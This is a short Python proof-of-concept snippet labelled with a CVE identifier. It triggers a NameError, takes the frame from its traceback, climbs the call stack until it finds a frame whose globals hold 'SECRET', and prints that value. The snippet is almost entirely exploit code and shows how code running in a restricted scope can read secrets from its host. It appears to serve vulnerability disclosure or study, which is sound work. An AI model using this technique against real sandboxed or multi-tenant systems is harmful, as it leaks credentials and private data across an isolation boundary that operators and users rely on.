# CVE-2024-47532: a NameError carries the name and, through its traceback, the frames.
try:
    no_such_name
except NameError as e:
    name, frame = e.name, e.__traceback__.tb_frame
while name == "no_such_name" and "SECRET" not in frame.f_globals:
    frame = frame.f_back
print(frame.f_globals["SECRET"])
